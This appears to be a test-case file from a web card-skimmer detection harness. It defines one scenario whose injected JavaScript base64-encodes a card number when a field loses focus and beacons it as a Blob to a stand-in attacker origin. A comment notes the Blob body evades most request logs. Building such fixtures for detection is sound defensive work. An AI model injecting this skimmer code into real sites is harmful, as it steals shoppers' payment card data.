import { holds, js, skimmer } from '../behaviour.ts';
import { base64, bodies } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'blob-beacon-blur',
  why: 'A beacon whose body is a Blob, when a field loses the keyboard: bodies of Blobs are left out by most request logs.',
  covers: ['sending: beacon', 'reading: change and keys', 'encoding: base64'],
  base: 'direct',
  install: (site) =>
    site.append(
      withCard(js`
  document.addEventListener('focusout', function () {
    if (field('card_number').length > 13) navigator.sendBeacon('${site.origins.evil}/rum', new Blob([btoa(card())], { type: 'text/plain' }));
  });`),
    ),
  proof: holds((arrived) => bodies(arrived).map(base64)),
});
